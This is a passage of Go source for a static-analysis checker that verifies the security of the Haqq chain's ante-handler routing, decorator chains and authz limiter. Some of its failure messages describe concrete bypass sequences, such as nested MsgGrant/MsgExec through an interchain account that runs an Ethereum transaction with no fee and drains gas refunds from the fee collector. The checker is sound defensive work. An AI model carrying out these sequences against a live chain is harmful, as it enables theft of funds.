		r366 := new(big.Int).Mul(regular, big.NewInt(366))
		if l365.Cmp(r366) == 0 {
			verdict, detail = "ok", fmt.Sprintf("leap years divide by %s, other years by %s (ratio 366:365)", leap, regular)
		} else {
			verdict, detail = "bad", fmt.Sprintf("on the leap-year branch the year length is %s and otherwise %s: the ratio is not 366:365 (the two year lengths are swapped or wrong), so every block of a leap year mints by the wrong divisor", leap, regular)
		}
		return true
	})
	return verdict, detail
}

// isCapComparison: the operands of a GT call are "formula amount (+ supply)" and "maximum supply (− supply)": the block
// mint on the left, the maximum supply on the right, the current supply on either side.
func isCapComparison(a []ssa.Value) bool {
	if len(a) != 2 {
		return false
	}
	l, r := backSlice(a[0]), backSlice(a[1])
	has := func(s *Slice, name string) bool { return s.HasCall(func(g CallInfo) bool { return g.Name == name }) }
	return has(l, "TotalBondedTokens") && has(r, "GetMaxSupply") && !has(r, "TotalBondedTokens") && (has(l, "GetSupply") || has(r, "GetSupply"))
}
