package main

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C06",
		Run: runC06,
		Explanation: "Static analysis of ante-handler routing: (R1) the route switch knows exactly the three extension options, maps each to its chain constructor and rejects any other option; " +
			"(R2) both Cosmos chains start with RejectMessagesDecorator and AuthzLimiterDecorator (configured with MsgEthereumTx), the plain Cosmos chain rejects unknown extension options, the eth chain validates that exactly one extension option is present, the EIP-712 verifier requires exactly one ExtensionOptionsWeb3Tx; " +
			"(R3) every eth-route decorator that reads the messages accepts only *MsgEthereumTx; (R4) the reject decorator fails on MsgEthereumTx; (R5) the recursive authz scan handles every message type that carries nested messages, recurses with the inner flag set and enforces its nesting cap; (R6) the app installs exactly this handler.",
		Assumptions: []string{"baseapp runs the installed AnteHandler before every message execution", "gov and ICA-host execute inner messages with module accounts as signers (MsgEthereumTx.GetSigners can never match)"},
		Declined:    nil,
		Thorough:    wholeProgramAnteBeforeMsgs,
	})
}

const (
	urlEthTx  = "/ethermint.evm.v1.ExtensionOptionsEthereumTx"
	urlWeb3Tx = "/ethermint.types.v1.ExtensionOptionsWeb3Tx"
	urlDynFee = "/ethermint.types.v1.ExtensionOptionDynamicFeeTx"
)

func runC06(r *Run) {
	P := r.P
	r.Rule("R1", "TABLE.route: NewAnteHandler's closure compares opts[0].GetTypeUrl() with exactly {EthereumTx, Web3Tx, DynamicFeeTx}; each case assigns the handler from {newEVMAnteHandler, newLegacyCosmosAnteHandlerEip712, newCosmosAnteHandler} respectively; when no case matches only failure exits are reachable; every dynamically called handler value originates from one of the three constructors")
	r.Rule("R2", "TABLE.chains: Cosmos and EIP-712 chains have RejectMessagesDecorator at position 0 and AuthzLimiterDecorator at position 1 constructed with MsgTypeURL(&MsgEthereumTx{}); the Cosmos chain contains the SDK RejectExtensionOptionsDecorator; the eth chain contains EthValidateBasicDecorator whose next is guarded by len(ExtensionOptions)==1 (bypass: IsReCheckTx); EIP-712 VerifySignature returns nil only after len(opts)==1 and the *ExtensionOptionsWeb3Tx assertion")
	r.Rule("R3", "PATH.assert-in-every-decorator: in each eth-route decorator that calls GetMsgs, a comma-ok assertion to *MsgEthereumTx exists and next is unreachable from its failing edge")
	r.Rule("R4", "PATH.reject: in RejectMessagesDecorator next is unreachable from the edge on which the assertion to *MsgEthereumTx succeeds, the assertion exists, it sits in a loop over the messages and its failing edge continues the scan (every message is examined)")
	r.Rule("R5", "TABLE.wrapper-exhaustiveness: every sdk.Msg type in the app's import closure with a []*Any field (nested messages) is a case of checkDisabledMsgs' type switch or in the reasoned allow-list; the MsgExec case recurses with isAuthzInnerMsg=true and an incremented level; the level cap precedes the scan; disabled types are rejected in the MsgGrant and default cases; AnteHandle calls the scan before next")
	r.Rule("R8", "TABLE.dispatchers-off-the-ante-route: the constructors that app.New hands the message service router to are exactly the tabled ones (authz keeper, configurator: bound to transactions; governance keeper, interchain-accounts host keeper: run message trees with no ante handler); while one of the latter is wired, both limiters list MsgTypeURL(&authz.MsgExec{}) and MsgTypeURL(&authz.MsgGrant{}) so that neither exec-on-behalf nor grant-on-behalf can be delegated to a dispatcher's account")
	r.Rule("R6", "TABLE.installed: setAnteHandler passes ante.NewAnteHandler(options) (wrapped by NewHaqqAnteHandlerDecorator, which calls the wrapped handler on every success path) to SetAnteHandler")

	chains := anteChains(r)

	// ---------- R1 ----------
	var route *ssa.Function
	if nh, ok := P.FnOK(antePkg + ".NewAnteHandler"); ok && len(nh.AnonFuncs) == 1 {
		route = nh.AnonFuncs[0]
	}
	if route == nil {
		r.Bad("R1", "anchor/NewAnteHandler$1", "", "route closure not found")
	} else {
		// R7: the router answers success only through a route
		r.Rule("R7", "PATH.no-success-without-a-route: every return of NewAnteHandler's closure whose error is not a fresh failure is the result of calling a handler value (one of the three route chains, R1) — there is no path on which the router itself says 'accepted' (a fast path for genesis transactions, for simulations, for a trusted sender): such a transaction skips signature, nonce and fee checks and every message gate alike")
		{
			isRouteCall := func(in ssa.Instruction) bool {
				c, ok := in.(ssa.CallInstruction)
				if !ok || c.Common().IsInvoke() || c.Common().StaticCallee() != nil {
					return false
				}
				_, isBuiltin := c.Common().Value.(*ssa.Builtin)
				return !isBuiltin && namedName(c.Common().Value.Type()) == "AnteHandler"
			}
			w := PathQuery{Fn: route, Block: isRouteCall, Target: func(in ssa.Instruction) bool {
				ret, ok := in.(*ssa.Return)
				return ok && classifyExit(ret) != ExitFailure
			}}.Search()
			r.Check(w == nil, "R7", fnID(route)+"#success-only-through-a-route", P.Pos(fnPos(route)), "every non-failure return follows a call of a route handler",
				"the ante router can return without an error on a path that calls none of the route handlers: the transaction is executed without signature, nonce, fee or message-type checks", P.witness(w)...)
		}
		where := P.Pos(fnPos(route))
		eq, _ := condEdgesInfo(route, func(x, y ssa.Value) (string, bool) {
			s, ok := constString(x)
			if !ok {
				return "", false
			}
			if !backSlice(y).HasCall(func(ci CallInfo) bool { return ci.Name == "GetTypeUrl" }) {
				return "", false
			}
			return s, true
		})
		var urls []string
		wantCtor := map[string]string{urlEthTx: "newEVMAnteHandler", urlWeb3Tx: "newLegacyCosmosAnteHandlerEip712", urlDynFee: "newCosmosAnteHandler"}
		var eqEdges []Edge
		for _, e := range eq {
			urls = append(urls, e.Tag)
			eqEdges = append(eqEdges, e.E)
			tb := e.E.From.Succs[e.E.Succ]
			got := ""
			for _, in := range tb.Instrs {
				if c, ok := in.(ssa.CallInstruction); ok {
					if ci := callInfo(c); ci.Static != nil && fnPkgPath(ci.Static) == haqqMod+"/"+antePkg {
						got = ci.Name
					}
				}
			}
			want, known := wantCtor[e.Tag]
			r.Check(known && got == want, "R1", fnID(route)+"#route/"+e.Tag, P.Pos(instrPos(tb.Instrs[0])), "→ "+got,
				fmt.Sprintf("extension option %q is routed to %q (expected %q): its transactions would skip the fee/nonce/signature rules of their route", e.Tag, got, want))
		}
		sort.Strings(urls)
		want := []string{urlEthTx, urlDynFee, urlWeb3Tx}
		sort.Strings(want)
		r.Check(strings.Join(urls, ",") == strings.Join(want, ","), "R1", fnID(route)+"#route-set", where, "exactly the three known extension options", fmt.Sprintf("route switch compares with %v, expected exactly %v", urls, want))
		// default: from the last comparison's non-matching edge only failure
		if len(eq) > 0 {
			// blocks reachable with all eq edges deleted starting from the first comparison block
			first := eq[0].E.From
			for _, e := range eq {
				if dominates(e.E.From, first) {
					first = e.E.From
				}
			}
			isDyn := func(in ssa.Instruction) bool {
				c, ok := in.(ssa.CallInstruction)
				return ok && !c.Common().IsInvoke() && c.Common().StaticCallee() == nil && callInfo(c).Builtin == ""
			}
			w := PathQuery{Fn: route, StartBlock: first, Target: func(in ssa.Instruction) bool { return isDyn(in) || isExitKind(in, ExitSuccess) }, DelEdge: edgeSet(eqEdges)}.Search()
			r.Check(w == nil, "R1", fnID(route)+"#unknown-option-rejected", where, "an unknown first extension option only reaches failure exits", "a transaction whose first extension option is none of the three known ones can reach a handler call or a success exit", P.witness(w)...)
		}
		// every dynamic call's callee originates from the three constructors
		okOrigin, nDyn := true, 0
		eachInstr(route, func(in ssa.Instruction) {
			c, ok := in.(ssa.CallInstruction)
			if !ok || c.Common().IsInvoke() || c.Common().StaticCallee() != nil || callInfo(c).Builtin != "" {
				return
			}
			nDyn++
			sl := backSlice(c.Common().Value)
			hasCtor := sl.HasCall(func(ci CallInfo) bool { _, ok := map[string]bool{"newEVMAnteHandler": true, "newLegacyCosmosAnteHandlerEip712": true, "newCosmosAnteHandler": true}[ci.Name]; return ok })
			ctors := map[string]bool{"newEVMAnteHandler": true, "newLegacyCosmosAnteHandlerEip712": true, "newCosmosAnteHandler": true}
			foreign := sl.Any(func(v ssa.Value) bool {
				switch x := v.(type) {
				case *ssa.Call:
					ci := callInfo(x)
					return ci.Static == nil || !ctors[ci.Name]
				case *ssa.Function:
					return !ctors[x.Name()]
				case *ssa.MakeClosure:
					return true
				}
				return false
			})
			if !hasCtor || foreign {
				okOrigin = false
			}
		})
		r.Check(okOrigin && nDyn >= 1, "R1", fnID(route)+"#handler-origin", where, fmt.Sprintf("%d handler calls, all from the three constructors", nDyn), "a handler value that does not come from the three chain constructors is called")
		// no-extension path → newCosmosAnteHandler: the second dynamic call site's value (after deleting eq edges) includes newCosmosAnteHandler only — covered by handler-origin + route set.
	}

	// ---------- R2 ----------
	disp := c06Dispatchers(P, r)
	limiterSets := map[string]map[string]bool{}
	for _, cn := range []string{"newCosmosAnteHandler", "newLegacyCosmosAnteHandlerEip712"} {
		c := chains[cn]
		if c == nil {
			continue
		}
		where := P.Pos(fnPos(c.Ctor))
		r.Check(c.index("RejectMessagesDecorator") == 0, "R2", antePkg+"."+cn+"#reject-first", where, "RejectMessagesDecorator is first", "RejectMessagesDecorator is not the first decorator of the chain "+strings.Join(c.names(), " → "))
		ai := c.index("AuthzLimiterDecorator")
		okA := ai == 1
		detail := ""
		if ai >= 0 && c.Decors[ai].Ctor != nil {
			always, sometimes, resolved := c06LimiterTypes(c.Decors[ai].Ctor)
			limiterSets[cn] = always
			if !resolved {
				okA, detail = false, " (the limiter's constructor call could not be resolved to NewAuthzLimiterDecorator)"
			} else if !always["MsgEthereumTx"] {
				okA, detail = false, " (not configured with MsgTypeURL(&MsgEthereumTx{}))"
			}
			var cond []string
			for t := range sometimes {
				cond = append(cond, t)
			}
			sort.Strings(cond)
			r.Check(len(cond) == 0, "R2", antePkg+"."+cn+"#barred-types-unconditional", where, "every barred type is listed unconditionally",
				"the limiter of "+cn+" lists "+strings.Join(cond, ", ")+" only under a condition: on the routes/configurations where the condition fails the type can be granted and executed through nested grants")
			// R8: dispatchers that are handed the message router run message trees without the ante handler; as long
			// as one of them is wired, "exec on my behalf" must not be grantable
			if len(disp) > 0 && resolved {
				r.Check(always["MsgGrant"], "R8", antePkg+"."+cn+"#grant-is-not-grantable", where, "the limiter bars grants of MsgGrant", "the limiter of "+cn+" does not list MsgTypeURL(&authz.MsgGrant{}) while "+strings.Join(disp, ", ")+" dispatch message trees without the ante handler: V grants an interchain account I GenericAuthorization(MsgGrant); I sends MsgExec{I,[MsgGrant{V→I, Generic(MsgEthereumTx)}]} — the barred grant is stored without ever meeting the limiter — and then MsgExec{I,[MsgEthereumTx signed by V]}: executed with a stale nonce, no fee, and a gas refund of 1e18 out of the fee collector")
				r.Check(always["MsgExec"], "R8", antePkg+"."+cn+"#exec-is-not-grantable", where, "the limiter bars grants of MsgExec", "the limiter of "+cn+" does not list MsgTypeURL(&authz.MsgExec{}) while "+strings.Join(disp, ", ")+" dispatch message trees through the message router without the ante handler: an account grants such a dispatcher's account GenericAuthorization(MsgExec); the dispatcher then runs MsgExec{dispatcher, [MsgExec{granter, [MsgEthereumTx signed by granter]}]} — authz accepts the innermost message implicitly (granter == grantee) and the Ethereum message executes with no fee deducted, no nonce rule, and a gas refund paid out of the fee collector")
			}
		} else {
			okA = false
		}
		r.Check(okA, "R2", antePkg+"."+cn+"#authz-limiter-second", where, "AuthzLimiterDecorator(MsgEthereumTx, …) is second", "AuthzLimiterDecorator must be the second decorator and be configured with the MsgEthereumTx type URL"+detail+": chain is "+strings.Join(c.names(), " → "))
	}
	if a, b := limiterSets["newCosmosAnteHandler"], limiterSets["newLegacyCosmosAnteHandlerEip712"]; a != nil && b != nil {
		var diff []string
		for t := range a {
			if !b[t] {
				diff = append(diff, t+" (Cosmos route only)")
			}
		}
		for t := range b {
			if !a[t] {
				diff = append(diff, t+" (EIP-712 route only)")
			}
		}
		sort.Strings(diff)
		r.Check(len(diff) == 0, "R2", antePkg+"#limiters-agree", "", "both Cosmos routes bar the same message types",
			"the two Cosmos routes bar different message types from grants: "+strings.Join(diff, ", ")+" — a type barred on one route is granted and executed through the other")
	}
	// the three chains are the only chains, and each constructor returns its chain itself (no selecting wrapper
	// that substitutes a shorter chain for some contexts — block height, mode — in front of it)
	{
		ctorNames := map[string]bool{antePkg + ".newEVMAnteHandler": true, antePkg + ".newCosmosAnteHandler": true, antePkg + ".newLegacyCosmosAnteHandlerEip712": true}
		perCtor := map[string][]ssa.CallInstruction{}
		for _, fn := range P.Funcs {
			if !isHaqqPath(fnPkgPath(fn)) || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			eachCall(fn, func(ci CallInfo) {
				if ci.Name != "ChainAnteDecorators" || !strings.HasSuffix(ci.PkgPath, "cosmos-sdk/types") {
					return
				}
				if fn.Parent() == nil && ctorNames[fnID(fn)] {
					perCtor[fnID(fn)] = append(perCtor[fnID(fn)], ci.Instr)
					return
				}
				r.Bad("R2", fnID(fn)+"#no-other-chain", P.Pos(instrPos(ci.Instr)), "an ante chain is assembled outside the three route constructors (or inside a closure of one): a chain that is not subject to the composition rules can be substituted for a route — e.g. a shorter chain without the reject/authz gates for some block heights or modes")
			})
		}
		for name := range ctorNames {
			fn, ok := P.FnOK(name)
			if !ok {
				continue
			}
			calls := perCtor[name]
			okRet := len(calls) == 1
			if okRet {
				eachInstr(fn, func(in ssa.Instruction) {
					if ret, ok := in.(*ssa.Return); ok {
						if len(ret.Results) != 1 || stripValue(ret.Results[0]) != calls[0].Value() {
							okRet = false
						}
					}
				})
			}
			r.Check(okRet, "R2", name+"#returns-its-chain", P.Pos(fnPos(fn)), "one ChainAnteDecorators call, returned as is",
				"the route constructor does not return its decorator chain itself (it assembles more than one chain, or wraps the chain in a handler that can choose something else): the composition rules then describe only one of the handlers the route can run")
		}
	}
	if c := chains["newCosmosAnteHandler"]; c != nil {
		requirePresent(r, "R2", "newCosmosAnteHandler", c, "ExtensionOptionsDecorator")
		// the checker it is configured with must be the options' ExtensionOptionChecker (set in app to HasDynamicFeeExtensionOption)
	}
	if c := chains["newEVMAnteHandler"]; c != nil {
		if requirePresent(r, "R2", "newEVMAnteHandler", c, "EthValidateBasicDecorator") {
			d := c.Decors[c.index("EthValidateBasicDecorator")]
			if d.Handle != nil {
				requireGuard(r, "R2", fnID(d.Handle)+"#one-extension-option", d.Handle, func(cond ssa.Value) (bool, bool) {
					b, ok := cond.(*ssa.BinOp)
					if !ok || (b.Op != token.NEQ && b.Op != token.EQL) {
						return false, false
					}
					n, okc := constInt(b.Y)
					if !okc || n != 1 || !isLenOfField(b.X, "ExtensionOptions") {
						return false, false
					}
					return b.Op == token.EQL, true
				}, boolCallEdges(d.Handle, "IsReCheckTx"), nextCallPred(d.Handle), "next only after len(body.ExtensionOptions)==1", "the eth route accepts a transaction whose body does not carry exactly one extension option")
			}
		}
	}
	if vs, ok := P.FnOK("app/ante/cosmos.VerifySignature"); ok {
		isNilRet := func(in ssa.Instruction) bool { return isExitKind(in, ExitSuccess) }
		requireGuard(r, "R2", fnID(vs)+"#one-extension-option", vs, func(cond ssa.Value) (bool, bool) {
			b, ok := cond.(*ssa.BinOp)
			if !ok || (b.Op != token.NEQ && b.Op != token.EQL) {
				return false, false
			}
			n, okc := constInt(b.Y)
			if !okc || n != 1 {
				return false, false
			}
			c, okl := b.X.(*ssa.Call)
			if !okl {
				return false, false
			}
			if bi, ok := c.Call.Value.(*ssa.Builtin); !ok || bi.Name() != "len" {
				return false, false
			}
			if !backSlice(c.Call.Args[0]).HasCall(func(ci CallInfo) bool { return ci.Name == "GetExtensionOptions" }) {
				return false, false
			}
			return b.Op == token.EQL, true
		}, nil, isNilRet, "nil only after len(opts)==1", "EIP-712 verification can succeed for a transaction that does not carry exactly one extension option")
		as := typeAssertsTo(vs, "haqq/types", "ExtensionOptionsWeb3Tx")
		okAs := len(as) > 0
		for _, a := range as {
			if w := (PathQuery{Fn: vs, Target: isNilRet, DelEdge: edgeSet(a.OkEdges)}).Search(); w != nil {
				okAs = false
			}
		}
		r.Check(okAs, "R2", fnID(vs)+"#web3tx-option", P.Pos(fnPos(vs)), "nil only after the option is asserted to be *ExtensionOptionsWeb3Tx", "EIP-712 verification can succeed without the extension option being an ExtensionOptionsWeb3Tx (unknown option accepted)")
	} else {
		r.Bad("R2", "anchor/VerifySignature", "", "app/ante/cosmos.VerifySignature not found")
	}

	// ---------- R3 ----------
	if c := chains["newEVMAnteHandler"]; c != nil {
		r.Floor("R3", "eth-route decorators", len(c.Decors), 12)
		nAssert := 0
		for _, d := range c.Decors {
			if d.Handle == nil {
				if isHaqqPath(d.Pkg) {
					r.Bad("R3", d.Rel+"#AnteHandle", "", "eth-route decorator has no AnteHandle body")
				}
				continue
			}
			reads := false
			eachCall(d.Handle, func(ci CallInfo) {
				if ci.Name == "GetMsgs" {
					reads = true
				}
			})
			inst := fnID(d.Handle) + "#only-MsgEthereumTx"
			if !reads {
				r.OK("R3", inst, P.Pos(fnPos(d.Handle)), "does not read the messages")
				continue
			}
			as := typeAssertsTo(d.Handle, "x/evm/types", "MsgEthereumTx")
			if len(as) == 0 {
				r.Bad("R3", inst, P.Pos(fnPos(d.Handle)), "the decorator reads tx.GetMsgs() without asserting each message to *MsgEthereumTx")
				continue
			}
			nAssert++
			next := nextCallPred(d.Handle)
			bad := false
			for _, a := range as {
				for _, e := range a.NoEdges {
					if w := (PathQuery{Fn: d.Handle, StartBlock: e.From.Succs[e.Succ], Target: next}).Search(); w != nil {
						bad = true
						r.Bad("R3", inst, P.Pos(instrPos(a.TA)), "next is reachable after a message failed the *MsgEthereumTx assertion", P.witness(w)...)
					}
				}
				if len(a.NoEdges) == 0 {
					bad = true
					r.Bad("R3", inst, P.Pos(instrPos(a.TA)), "the result of the *MsgEthereumTx assertion is not branched on")
				}
			}
			if !bad {
				r.OK("R3", inst, P.Pos(fnPos(d.Handle)), "non-MsgEthereumTx messages lead to failure")
			}
		}
		r.Floor("R3", "eth-route decorators asserting *MsgEthereumTx", nAssert, 8)
	}

	// ---------- R3b: no way around the message scan except the tabled bypasses ----------
	r.Rule("R3b", "PATH.scan-before-next: in every Haqq decorator of the three chains that reads tx.GetMsgs(), each call of next is preceded by GetMsgs() except over the bypass edges tabled for that decorator (recheck / not-checktx / simulate / zero-min-price / has-basefee)")
	allowedBypass := map[string][]string{
		"EthMempoolFeeDecorator":          {"not-checktx", "simulate", "has-basefee"},
		"EthMinGasPriceDecorator":         {"zero-min-price"},
		"EthValidateBasicDecorator":       {"recheck"},
		"EthAccountVerificationDecorator": {"not-checktx"},
		"EthGasConsumeDecorator":          {"recheck"},
		"MinGasPriceDecorator":            {"zero-min-price", "simulate"},
	}
	seenDecor := map[string]bool{}
	nScan := 0
	for _, cn := range []string{"newEVMAnteHandler", "newCosmosAnteHandler", "newLegacyCosmosAnteHandlerEip712"} {
		c := chains[cn]
		if c == nil {
			continue
		}
		for _, d := range c.Decors {
			if d.Handle == nil || seenDecor[d.Rel] {
				continue
			}
			seenDecor[d.Rel] = true
			isGet := isCallMatching(func(ci CallInfo) bool { return ci.Name == "GetMsgs" })
			reads := false
			eachInstr(d.Handle, func(in ssa.Instruction) {
				if isGet(in) {
					reads = true
				}
			})
			if !reads {
				continue
			}
			nScan++
			var bypass []Edge
			for _, k := range allowedBypass[d.Name] {
				switch k {
				case "recheck":
					bypass = append(bypass, boolCallEdges(d.Handle, "IsReCheckTx")...)
				case "not-checktx":
					_, f := guardPassEdges(d.Handle, func(cond ssa.Value) (bool, bool) {
						cc, ok := cond.(*ssa.Call)
						return true, ok && callInfo(cc).Name == "IsCheckTx"
					})
					bypass = append(bypass, f...)
				case "simulate":
					bypass = append(bypass, paramBoolEdges(d.Handle, "simulate")...)
				case "zero-min-price":
					z, _ := guardPassEdges(d.Handle, func(cond ssa.Value) (bool, bool) {
						cc, ok := cond.(*ssa.Call)
						return true, ok && callInfo(cc).Name == "IsZero" && backSlice(callArgs(cc)[0]).HasField("Params", "MinGasPrice")
					})
					bypass = append(bypass, z...)
				case "has-basefee":
					hb, _ := guardPassEdges(d.Handle, func(cond ssa.Value) (bool, bool) {
						b, ok := cond.(*ssa.BinOp)
						if !ok || (b.Op != token.NEQ && b.Op != token.EQL) || !isNilConst(b.Y) {
							return false, false
						}
						if !backSlice(b.X).HasCall(func(g CallInfo) bool { return g.Name == "GetBaseFee" }) {
							return false, false
						}
						return b.Op == token.NEQ, true
					})
					bypass = append(bypass, hb...)
				}
			}
			w := PathQuery{Fn: d.Handle, Block: isGet, Target: nextCallPred(d.Handle), DelEdge: edgeSet(bypass)}.Search()
			r.Check(w == nil, "R3b", fnID(d.Handle)+"#scan-before-next", P.Pos(fnPos(d.Handle)), fmt.Sprintf("next only after GetMsgs() (allowed bypasses: %v)", allowedBypass[d.Name]),
				fmt.Sprintf("the decorator can hand the transaction to the next decorator without looking at its messages, over an edge that is not one of its tabled bypasses %v — its rule is not enforced on that path (e.g. only in CheckTx, which a block proposer can skip)", allowedBypass[d.Name]), P.witness(w)...)
		}
	}
	r.Floor("R3b", "decorators that scan messages", nScan, 11)

	// ---------- R3c: a scan looks at every message ----------
	r.Rule("R3c", "PATH.scan-complete: in app/ante every loop over the transaction's messages (a range over GetMsgs() / a []sdk.Msg parameter / GetMessages()) can be left towards success (a call of next, or a nil-error return of a helper) only through the loop's own termination test — no break/return-success from the body, so a message placed after an innocuous one is still examined")
	nLoops := 0
	for _, fn := range P.Funcs {
		if !strings.HasPrefix(fnPkgPath(fn), haqqMod+"/app/ante") || isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		for _, h := range fn.Blocks {
			ifi, ok := lastIf(h)
			if !ok || !isLoopHeader(h) {
				continue
			}
			bo, ok := ifi.Cond.(*ssa.BinOp)
			if !ok || bo.Op != token.LSS {
				continue
			}
			lc, ok := bo.Y.(*ssa.Call)
			if !ok {
				continue
			}
			if b, ok := lc.Call.Value.(*ssa.Builtin); !ok || b.Name() != "len" {
				continue
			}
			x := lc.Call.Args[0]
			isMsgs := false
			if sl, ok := x.Type().Underlying().(*types.Slice); ok && namedName(sl.Elem()) == "Msg" {
				isMsgs = true
			}
			if !isMsgs {
				continue
			}
			nLoops++
			body := loopBody(h)
			var target func(ssa.Instruction) bool
			if fn.Name() == "AnteHandle" || fn.Parent() != nil {
				nx := nextCallPred(outermost(fn))
				target = func(in ssa.Instruction) bool { return (nx != nil && nx(in)) || isSuccessExit(in) }
			} else {
				target = isSuccessExit
			}
			// leave the loop only through the header's exit edge: delete it and ask whether success is still reachable from the body
			w := PathQuery{Fn: fn, StartBlock: h.Succs[0], Target: func(in ssa.Instruction) bool { return !body[in.Block()] && target(in) }, DelEdge: edgeSet([]Edge{{h, 1}})}.Search()
			r.Check(w == nil, "R3c", fmt.Sprintf("%s#loop@%s", fnID(fn), h.Comment), P.Pos(instrPos(ifi)), "the message loop is left towards success only by running to its end",
				"a loop over the transaction's messages can be left early towards success (break / early return): messages after that point are never examined — e.g. a disabled or Ethereum message placed behind an innocuous one passes", P.witness(w)...)
		}
	}
	r.Floor("R3c", "message loops in app/ante", nLoops, 13)

	// ---------- R4 ----------
	if rj, ok := P.FnOK("(app/ante/cosmos.RejectMessagesDecorator).AnteHandle"); ok {
		as := typeAssertsTo(rj, "x/evm/types", "MsgEthereumTx")
		next := nextCallPred(rj)
		okR := len(as) > 0
		var wit []string
		for _, a := range as {
			if len(a.OkEdges) == 0 {
				okR = false
			}
			for _, e := range a.OkEdges {
				if w := (PathQuery{Fn: rj, StartBlock: e.From.Succs[e.Succ], Target: next}).Search(); w != nil {
					okR = false
					wit = P.witness(w)
				}
			}
		}
		// and the loop covers GetMsgs
		reads := false
		eachCall(rj, func(ci CallInfo) {
			if ci.Name == "GetMsgs" {
				reads = true
			}
		})
		r.Check(okR && reads, "R4", fnID(rj)+"#rejects", P.Pos(fnPos(rj)), "a MsgEthereumTx in a Cosmos-route tx leads to failure", "RejectMessagesDecorator lets a transaction containing MsgEthereumTx reach the next decorator", wit...)
		// every message is examined: the assertion sits in a loop over the messages, and the failing edge of the
		// assertion (a non-Ethereum message) leads back to the loop head — not out of the loop to next
		allMsgs := len(as) > 0
		var wit2 []string
		for _, a := range as {
			hd := innermostLoop(a.TA.Block())
			if hd == nil {
				allMsgs = false
				continue
			}
			body := loopBody(hd)
			for _, e := range a.NoEdges {
				// from the failing edge, next must be unreachable without passing the loop header again
				isHead := func(in ssa.Instruction) bool { return in.Block() == hd && in == hd.Instrs[0] }
				_ = body
				if w := (PathQuery{Fn: rj, StartBlock: e.From.Succs[e.Succ], Block: isHead, Target: next}).Search(); w != nil {
					allMsgs = false
					wit2 = P.witness(w)
				}
			}
		}
		r.Check(allMsgs, "R4", fnID(rj)+"#every-message", P.Pos(fnPos(rj)), "the assertion is applied to every message (a non-Ethereum message continues the scan)",
			"RejectMessagesDecorator stops scanning at a message that is not a MsgEthereumTx (or does not loop at all): a MsgEthereumTx placed after an ordinary message reaches the Cosmos route's execution", wit2...)
	} else {
		r.Bad("R4", "anchor/RejectMessagesDecorator.AnteHandle", "", "not found")
	}

	// ---------- R5 ----------
	c06Authz(r)

	// ---------- R6 ----------
	if sa, ok := P.FnOK("(*app.Haqq).setAnteHandler"); ok {
		okI := false
		eachCall(sa, func(ci CallInfo) {
			if ci.Name == "SetAnteHandler" {
				sl := backSlice(argN(ci.Instr, 0))
				hasNew := sl.HasCall(func(c CallInfo) bool { return c.Name == "NewAnteHandler" && pathHasSuffix(c.PkgPath, antePkg) })
				if hasNew {
					okI = true
				}
			}
		})
		r.Check(okI, "R6", fnID(sa)+"#installs-router", P.Pos(fnPos(sa)), "SetAnteHandler(… ante.NewAnteHandler(options) …)", "the app no longer installs ante.NewAnteHandler as its ante handler")
		if wd, ok := P.FnOK("app.NewHaqqAnteHandlerDecorator"); ok && len(wd.AnonFuncs) == 1 {
			cl := wd.AnonFuncs[0]
			isH := func(in ssa.Instruction) bool {
				c, ok := in.(ssa.CallInstruction)
				if !ok || c.Common().StaticCallee() != nil || c.Common().IsInvoke() {
					return false
				}
				v := c.Common().Value
				if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
					v = u.X
				}
				fv, ok := v.(*ssa.FreeVar)
				return ok && fv.Name() == "h"
			}
			w := Precedes(cl, isH, func(in ssa.Instruction) bool { return isExitKind(in, ExitSuccess) || isExitKind(in, ExitMaybe) && !isH(prevCall(in)) }, nil)
			_ = w
			// success exits are exactly `return h(ctx, tx, simulate)`
			bad := false
			eachInstr(cl, func(in ssa.Instruction) {
				ret, ok := in.(*ssa.Return)
				if !ok {
					return
				}
				k := classifyExit(ret)
				if k == ExitFailure {
					return
				}
				ops := retOperands(ret)
				fromH := false
				for _, o := range ops {
					if e, ok := o.(*ssa.Extract); ok {
						if c, ok := e.Tuple.(*ssa.Call); ok && isH(c) {
							fromH = true
						}
					}
				}
				if !fromH {
					bad = true
				}
			})
			r.Check(!bad, "R6", fnID(cl)+"#delegates", P.Pos(fnPos(cl)), "every non-failure exit returns the wrapped handler's result", "the Haqq ante wrapper can accept a transaction without running the wrapped ante handler")
		}
	} else {
		r.Bad("R6", "anchor/setAnteHandler", "", "(*app.Haqq).setAnteHandler not found")
	}
}

func prevCall(in ssa.Instruction) ssa.Instruction { return in }

func isExitKind(in ssa.Instruction, k ExitKind) bool {
	ret, ok := in.(*ssa.Return)
	return ok && classifyExit(ret) == k
}

// reasoned allow-list of message types with nested messages that need no case in checkDisabledMsgs
var nestedMsgAllow = map[string]string{
	"github.com/cosmos/cosmos-sdk/x/gov/types/v1.MsgSubmitProposal":   "inner messages are executed by the gov module with the gov account as signer; MsgEthereumTx.GetSigners() is the tx sender, so the router rejects it; a grant inside a proposal is issued by the gov account",
	"github.com/cosmos/cosmos-sdk/x/group.MsgSubmitProposal":          "group module is not wired into the app's module manager / message router",
	"github.com/cosmos/cosmos-sdk/x/group.MsgExec":                    "group module is not wired into the app",
	"github.com/cosmos/cosmos-sdk/x/group.MsgCreateGroupWithPolicy":   "group module is not wired into the app",
}

func c06Authz(r *Run) {
	P := r.P
	cd, ok := P.FnOK("(app/ante/cosmos.AuthzLimiterDecorator).checkDisabledMsgs")
	if !ok {
		r.Bad("R5", "anchor/checkDisabledMsgs", "", "AuthzLimiterDecorator.checkDisabledMsgs not found")
		return
	}
	r.Rule("R9", "SHAPE.a-nested-grant-is-an-inner-message-too: MsgGrant is itself a barred type (R8), and 'barred types can be neither granted nor executed through nested grants': in the scan's MsgGrant arm the message's own type URL — sdk.MsgTypeURL of the *authz.MsgGrant — is handed to isDisabledMsg (under the inner flag), not only its authorization's: otherwise MsgExec{B,[MsgGrant{V→C, Generic(MsgSend)}]} passes both Cosmos routes and a grant of MsgGrant stored before the bar keeps working")
	{
		n := 0
		eachCall(cd, func(ci CallInfo) {
			if ci.Name != "isDisabledMsg" {
				return
			}
			backSlice(ci.Instr.Common().Args...).Any(func(v ssa.Value) bool {
				c, ok := v.(*ssa.Call)
				if !ok {
					return false
				}
				g := callInfo(c)
				if g.Name != "MsgTypeURL" || g.Invoke || len(c.Call.Args) != 1 {
					return false
				}
